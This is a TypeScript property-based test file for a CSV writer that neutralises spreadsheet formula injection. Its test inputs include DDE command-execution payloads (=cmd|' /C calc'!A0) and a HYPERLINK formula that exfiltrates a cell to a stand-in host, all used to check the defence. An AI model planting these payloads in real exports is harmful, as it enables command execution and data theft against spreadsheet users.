import * as fc from 'fast-check';
import { expect, test } from 'vitest';
import { holds } from '../test/properties.ts';
import { byteOrderMark, csvLine } from './csv.ts';

/** A strict reader of quoted cells with semicolons between them, written apart from the writer. */
function readCsv(text: string): string[][] {
  const lines: string[][] = [[]];
  let at = 0;
  while (at < text.length) {
    if (text[at] !== '"') throw new Error(`no quoted cell at ${at}`);
    let cell = '';
    for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
      if (at >= text.length) throw new Error('open quote');
      if (text[at] === '"') at += 1;
      cell += text[at];
    }
    lines.at(-1)?.push(cell);
    at += 1;
    if (text[at] === ';') at += 1;
    else if (text.startsWith('\r\n', at)) {
      at += 2;
      lines.push([]);
    } else throw new Error(`neither semicolon nor line end at ${at}`);
  }
  return lines.slice(0, -1);
}

const cell = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: fc.constantFrom('"', ',', '\r', '\n', '\t', ';', '=', '+', '-', '@', "'", 'a', '＝') }),
);
const table = fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { maxLength: 5 });

test('what is written is what is read, but for the apostrophe before a formula', () => {
  holds(
    fc.property(table, (rows) => {
      const read = readCsv(rows.map(csvLine).join(''));
      const plain = (text: string) =>
        text
          .replace(/^'(?=[=+\-@\t\r\n＝＋－＠])/, '')
          .replaceAll(/(?<=[,\t]["\s]*)'(?=[=+\-@＝＋－＠])/g, '');
      expect(read.map((cells) => cells.map(plain))).toEqual(rows.map((cells) => cells.map(plain)));
    }),
  );
});

test('no cell begins like a formula', () => {
  holds(
    fc.property(table, (rows) => {
      for (const text of readCsv(rows.map(csvLine).join('')).flat())
        expect(text).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    }),
  );
});

/** From the OWASP page on CSV injection and published exploits. */
test.each([
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://jahat.example/?x="&A1,"Klik")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
])('%j is a text to a spreadsheet', (text) => {
  expect(readCsv(csvLine([text, 'lain']))).toEqual([[`'${text}`, 'lain']]);
});

/** In locales with a decimal point, Excel separates cells at commas; a quote closes a cell only if it opened it. */
function readWithCommas(line: string, separator: string): string[] {
  const cells = [''];
  let isOpen = false;
  let isStart = true;
  for (let at = 0; at < line.length; at += 1) {
    const sign = line.charAt(at);
    if (sign === '"' && isStart) isOpen = true;
    else if (sign === '"' && isOpen && line[at + 1] === '"') at += 1;
    else if (sign === '"' && isOpen) isOpen = false;
    else if (sign === separator && !isOpen) {
      cells.push('');
      isStart = true;
      continue;
    } else cells.push((cells.pop() ?? '') + sign);
    isStart = false;
  }
  return cells;
}

test('a cell that begins with a tab is a text, also where tabs part cells', () => {
  expect(readCsv(csvLine(['\t=1+1']))).toEqual([["'\t'=1+1"]]);
});

test.each([',', '\t'])('read with %j between cells, no cell begins like a formula', (separator) => {
  for (const text of ['Laut,=1+1,', 'Laut,"=1+1', 'Laut\t@SUM(1)', 'Laut, =1+1'])
    for (const cell of readWithCommas(csvLine(['Siti', text, 'lain']), separator))
      expect(cell.trimStart()).not.toMatch(/^[=+\-@]/);
});

test('ordinary text is left alone', () => {
  expect(csvLine(['Siti "Rahma"', 'a,b', '', "o'clock", 'x=1'])).toBe(
    '"Siti ""Rahma""";"a,b";"";"o\'clock";"x=1"\r\n',
  );
  expect(byteOrderMark).toBe('\u{FEFF}');
});
